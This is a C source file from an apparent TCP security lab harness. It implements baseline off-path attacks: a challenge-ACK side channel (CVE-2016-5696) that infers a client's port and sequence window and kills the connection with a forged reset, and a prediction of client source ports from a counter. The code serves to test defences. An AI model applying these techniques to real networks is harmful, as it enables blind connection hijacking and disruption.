/* threats/baselines_oracle.c: the bar, continued: what a host's answers on one connection tell of
 * another, and what its calls to one place tell of the next. */
#include "lab/act.h"
#include "threats/baselines.h"

enum {
    OWN_PORT = 27000,
    NEVER_USED_PORT = 20001, /* below what connect() draws from (lab/scenario.h) */
    ASKED = 15,              /* more than any limit a second that RFC 5961 §7 speaks of */
    COUNTED_MS = 1100,       /* a new second is counted by then */
    ANSWER_MS = 100,
    CALLED_PORT = 27100
};

/* ---- B-CHACK ------------------------------------------------------------------------------ */

/* Whatever its number, it draws a challenge if the client has a connection from that port
 * (RFC 5961 §4.2). */
static void call_as_client(struct plait_attack *a, uint16_t port)
{
    const struct plait_numbers numbers = {
        .flow = {.src = {plait_addr_of(a, PLAIT_CLIENT), port}, .dst = plait_service(a)},
        .seq = (uint32_t)plait_own_draw(a, "challenge", port)};
    struct plait_segment syn = plait_forged(&numbers, PLAIT_SYN);
    plait_send(a, &syn);
}

static struct plait_intruder *open_own(struct plait_attack *a)
{
    const struct plait_place own = {plait_own_addr(a), OWN_PORT};
    struct plait_intruder *mine = plait_knock_as(a, &own);
    if (!plait_await(a, plait_is_answer, mine, PLAIT_S))
        return NULL;
    struct plait_segment ack = plait_intruder_segment(mine, PLAIT_ACK);
    plait_send(a, &ack);
    return mine;
}

/* How many challenges his own connection still gets: resets beside the exact number draw them
 * (RFC 5961 §3.2). */
static unsigned count_challenges(struct plait_attack *a, const struct plait_intruder *mine)
{
    unsigned came = 0;
    while (came < ASKED) {
        struct plait_segment reset = plait_intruder_segment(mine, PLAIT_RST);
        reset.seq += 1;
        plait_send(a, &reset);
        if (!plait_await(a, plait_is_answer, mine, ANSWER_MS * PLAIT_MS))
            break;
        came++;
    }
    return came;
}

/* The same after a call from PORT in the client's name, in a second of its own. */
static unsigned count_after(struct plait_attack *a, const struct plait_intruder *mine,
                            uint16_t port)
{
    plait_pause(a, COUNTED_MS * PLAIT_MS);
    call_as_client(a, port);
    return count_challenges(a, mine);
}

/* A connection that is looked for, and what it takes to ask about it. */
struct search {
    const struct plait_intruder *mine;
    uint16_t port; /* of the client */
    unsigned usual;
};

/* By the challenges that his own connection gets fewer; false after plait_refused. */
static bool find_port(struct plait_attack *a, struct search *s)
{
    plait_step(a, "opens a connection of its own");
    s->mine = open_own(a);
    if (!s->mine) {
        plait_refused(a, "his own connection was not taken");
        return false;
    }
    plait_step(a, "counts the challenges it gets after a call from a wrong port");
    plait_wrong_guesses(a, true);
    s->usual = count_after(a, s->mine, NEVER_USED_PORT);
    plait_wrong_guesses(a, false);
    s->port = plait_get_client_port(a, call_as_client);
    plait_step(a, "counts them after a call from the right one");
    if (count_after(a, s->mine, s->port) != s->usual)
        return true;
    plait_refused(a, "as many challenges came to his connection, right port or wrong");
    return false;
}

void plait_b_chack(struct plait_attack *a)
{
    struct search s = {0};
    plait_take_position(a);
    if (!find_port(a, &s))
        return;
    plait_claim_client_port(a, s.port, true);
    plait_claim_client_port(a, NEVER_USED_PORT, false);
}

/* ---- B-CHACK, on to the sequence number --------------------------------------------------- */

static struct plait_numbers numbers_at(const struct plait_attack *a, const struct search *s,
                                       uint32_t seq)
{
    return (struct plait_numbers){
        .flow = {.src = {plait_addr_of(a, PLAIT_CLIENT), s->port}, .dst = plait_service(a)},
        .seq = seq};
}

static void reset_as_client(struct plait_attack *a, const struct plait_numbers *numbers,
                            void *argument)
{
    const struct search *s = argument;
    const struct plait_numbers right = numbers_at(a, s, numbers->seq);
    struct plait_segment reset = plait_forged(&right, PLAIT_RST);
    plait_send(a, &reset);
}

/* A reset in the window draws a challenge, unless its number is exact: then there is no connection
 * any more (RFC 5961 §3.2). */
static bool is_in_window(struct plait_attack *a, const struct search *s, uint32_t seq)
{
    const struct plait_numbers numbers = numbers_at(a, s, seq);
    plait_pause(a, COUNTED_MS * PLAIT_MS);
    reset_as_client(a, &numbers, (void *)(uintptr_t)s);
    return count_challenges(a, s->mine) < s->usual;
}

/* From SEQ, which is in the window, to its lower edge: by steps that double, then by halves. */
static uint32_t find_edge(struct plait_attack *a, const struct search *s, uint32_t seq)
{
    uint32_t step = 1;
    while (step < 1u << 30 && is_in_window(a, s, seq - step))
        step *= 2;
    uint32_t outside = step, inside = step / 2; /* below SEQ */
    while (outside - inside > 1) {
        uint32_t half = inside + (outside - inside) / 2;
        if (is_in_window(a, s, seq - half))
            inside = half;
        else
            outside = half;
    }
    return seq - inside;
}

void plait_b_chack_kill(struct plait_attack *a)
{
    struct search s = {0};
    plait_take_position(a);
    if (!find_port(a, &s))
        return;
    plait_step(a, "looks for a number in the window by the same count");
    uint32_t hit = plait_get_number_in_window(a, reset_as_client, &s);
    plait_step(a, "looks for the window's lower edge, and resets there");
    const struct plait_numbers edge = numbers_at(a, &s, find_edge(a, &s, hit));
    reset_as_client(a, &edge, &s);
    plait_pause(a, ANSWER_MS * PLAIT_MS);
    plait_mark(a);
}

/* ---- B-PORT ------------------------------------------------------------------------------- */

static bool is_call(const struct plait_seen *seen, const void *unused)
{
    (void)unused;
    return seen->at_home && seen->segment.dst_port == CALLED_PORT &&
           (seen->segment.flags & (PLAIT_SYN | PLAIT_ACK)) == PLAIT_SYN;
}

/* The port of the client's Nth call to a server of his, which is refused; 0 if none came. */
static uint16_t port_of_call(struct plait_attack *a, unsigned n)
{
    plait_act_call(a, CALLED_PORT, n);
    if (!plait_await(a, is_call, NULL, PLAIT_S))
        return 0;
    const struct plait_segment *call = plait_answer(a);
    const struct plait_flow_key flow = {{call->ip.src, call->src_port},
                                        {call->ip.dst, call->dst_port}};
    const struct plait_numbers numbers = {.flow = {.src = flow.dst, .dst = flow.src},
                                          .ack = call->seq + 1};
    struct plait_segment refusal = plait_forged(&numbers, PLAIT_RST | PLAIT_ACK);
    plait_send(a, &refusal);
    plait_pause(a, ANSWER_MS * PLAIT_MS);
    plait_act_hang_up(a, n);
    return flow.src.port;
}

/* What the client dials next he does not see; two calls to himself he does. */
static void b_port(struct plait_attack *a)
{
    plait_take_position(a);
    plait_step(a, "is called twice by the client");
    uint16_t first = port_of_call(a, 1), second = port_of_call(a, 2);
    if (!first || !second) {
        plait_refused(a, "no call came to him");
        return;
    }
    plait_step(a, "foretells the port of the client's next call to the service");
    plait_act_call_service(a, 3);
    plait_claim_next_port(a, (uint16_t)(2 * second - first));
    plait_act_hang_up(a, 3);
}

/* ---- records ------------------------------------------------------------------------------ */

#define ORACLE(name, goal, play, ...)                                                              \
    {                                                                                              \
        .form = name, .position = "OFF", .spoofing = true, .victim = PLAIT_SERVER,                 \
        .workload = PLAIT_IDLE, .paths = 1, .goals = PLAIT_GOAL_BIT(goal), .script = play,         \
        .expect = PLAIT_SHOWN_ALONE, .only_tcp = true, .only_own = true, .witnesses = {            \
            __VA_ARGS__                                                                            \
        }                                                                                          \
    }

static const struct plait_case chack_cases[] = {
    ORACLE("-", PROBE, plait_b_chack, PLAIT_GRANT_SHARED),
    ORACLE("kill", KILL, plait_b_chack_kill, PLAIT_GRANT_SHARED),
};
static const struct plait_case port_cases[] = {
    ORACLE("-", PROBE, b_port, PLAIT_GRANT_COUNTER),
};

const struct plait_threat plait_baseline_chack = {
    BASELINE("B-CHACK", "Challenge-ACK side channel", "OFF", "CVE-2016-5696",
             "Where all connections share one limit of challenge ACKs, a connection of one's own "
             "tells whether a guessed client port was right.",
             "probe", "a limit for each connection", BLIND_PACKET),
    PLAIT_CASES(chack_cases)};
const struct plait_threat plait_baseline_port = {
    BASELINE("B-PORT", "Client port foretold", "OFF", "RFC 6056 §2.2",
             "Whoever is called twice by the client sees two of its ports; drawn from a counter "
             "they tell the next.",
             "probe", "ports that are drawn for each destination (RFC 6056 §3.3)", BLIND_PLAIN),
    PLAIT_CASES(port_cases)};
